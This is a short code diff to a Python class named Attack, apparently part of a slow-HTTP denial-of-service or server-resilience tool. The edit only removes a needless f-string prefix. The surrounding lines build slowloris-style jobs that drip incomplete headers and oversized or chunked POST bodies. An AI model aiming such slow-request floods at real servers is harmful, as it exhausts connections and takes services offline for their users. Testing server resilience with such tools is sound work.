@@ -59,7 +59,7 @@ class Attack:
     def start(self) -> "Attack":
         head = f"POST {self.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{self.headers}"
         jobs: list[tuple[str, Any, tuple[Any, ...]]] = []
-        jobs += [("slow headers", self._drip, (f"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: ".encode(), b"a"))] * self.slow_headers
+        jobs += [("slow headers", self._drip, ("GET / HTTP/1.1\r\nHost: x\r\nX-Pad: ".encode(), b"a"))] * self.slow_headers
         for i in range(self.slow_bodies):
             framing = "Transfer-Encoding: chunked\r\n\r\n" if i % 2 else "Content-Length: 100000\r\n\r\n"
             jobs.append(("slow body", self._drip, ((head + framing).encode(), b"1\r\n{\r\n" if i % 2 else b"{")))
